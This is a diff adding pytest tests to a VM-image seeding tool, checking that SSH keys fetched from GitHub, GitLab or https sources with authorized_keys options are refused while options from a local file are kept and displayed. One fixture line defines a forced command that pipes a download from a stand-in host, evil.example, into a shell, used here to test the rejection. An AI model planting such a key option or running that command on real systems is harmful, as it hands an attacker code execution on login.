@@ -10,6 +10,8 @@ image is not even looked at). One test seeds a real image through the appliance.
 from __future__ import annotations
 
 import hashlib
+import json
+import re
 import subprocess
 from pathlib import Path
 
@@ -262,3 +264,61 @@ def test_batch_behind_a_proxy_that_refuses_exits_1_before_any_copy_naming_the_pr
     assert f"the proxy refused the connection (HTTP 403 Forbidden) (through the proxy {proxy.url})" in result.stderr
     assert sorted(c.target for c in proxy.connects) == [forge.url.removeprefix("https://")] * 2
     assert forge.requests == [] and not (tmp_path / "out").exists()
+
+
+# ------------------------------------------------------------------------------------------------
+# authorized_keys options: refused from a server, kept (and shown) from a local file
+
+FORCED = 'command="/bin/sh -c \'curl evil.example | sh\'" '
+RESTRICTED = 'from="203.0.113.7",no-pty '
+
+
+@pytest.mark.parametrize("options", [FORCED, RESTRICTED])
+@pytest.mark.parametrize("spec, path", [("gh:alice", "/alice.keys"), ("gl:alice", "/gitlab/alice.keys"),
+                                        ("https", "/team/keys.txt")])
+def test_a_source_serving_options_is_refused_naming_it_and_the_line(forge, image, spec, path, options):
+    """GitHub and GitLab never serve options: a forced command on a real key must not land silently."""
+    served = public_line(comment="alice")
+    serve(forge, path, lines(bare(public_line()), options + served))
+    spec = f"{forge.url}{path}" if spec == "https" else spec
+    result = refused(image, spec)
+    assert result.returncode == 2, result.stderr
+    named = spec if spec.startswith("https") else f"{spec} ({forge.url}{path})"
+    assert f"{named}:2: the key is served with authorized_keys options" in result.stderr
+    assert "GitHub and GitLab never serve" in result.stderr
+    output = result.stdout + result.stderr
+    assert served.split()[1] not in output and "evil.example" not in output and "203.0.113.7" not in output
+
+
+def test_batch_refuses_a_row_whose_source_serves_options_before_any_copy(forge, image, tmp_path):
+    serve(forge, "/alice.keys", lines(bare(public_line())))
+    serve(forge, "/mallory.keys", lines(FORCED + public_line()))
+    manifest = write_manifest(tmp_path, [("alice", "gh:alice"), ("mallory", "gh:mallory")])
+    before, out = sha256(image), tmp_path / "out"
+    result = zvm("batch", str(manifest), "--base", str(image), "--out-dir", str(out))
+    assert result.returncode == 2, result.stderr
+    assert (f"line 3: gh:mallory ({forge.url}/mallory.keys):1: the key is served with authorized_keys options"
+            in result.stderr)
+    assert "line 2" not in result.stderr and "evil.example" not in result.stderr
+    assert not out.exists() and sha256(image) == before
+
+
+@pytest.mark.appliance
+def test_options_from_a_local_file_land_and_the_plan_json_and_inspect_show_them(sample_disk, tmp_path, monkeypatch):
+    line = RESTRICTED.strip() + " " + public_line(comment="ops")
+    own = tmp_path / "ops.pub"
+    own.write_text(line + "\n")
+    options = RESTRICTED.strip()
+    dry = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", str(own), "--dry-run")
+    assert dry.returncode == 0, dry.stderr
+    assert f"with options {options}" in dry.stdout  # the plan shows the restriction before anything is written
+    seeded = zvm("seed", str(sample_disk), "--no-password", "--ssh-key", str(own), "--json")
+    assert seeded.returncode == 0, seeded.stderr
+    assert [key["options"] for key in json.loads(seeded.stdout)["authorized_keys"]] == [options]
+    inspected = zvm("inspect", str(sample_disk), "--json")
+    assert inspected.returncode == 0, inspected.stderr
+    assert [key["options"] for key in json.loads(inspected.stdout)["authorized_keys"]["keys"]] == [options]
+    monkeypatch.setenv("COLUMNS", "200")  # the table folds long cells to the width; wide enough for the whole
+    table = zvm("inspect", str(sample_disk))
+    assert table.returncode == 0, table.stderr
+    assert re.search(r"│ ED25519 │ from=\"203\.0\.113\.7\",no-pty +│", table.stdout), table.stdout
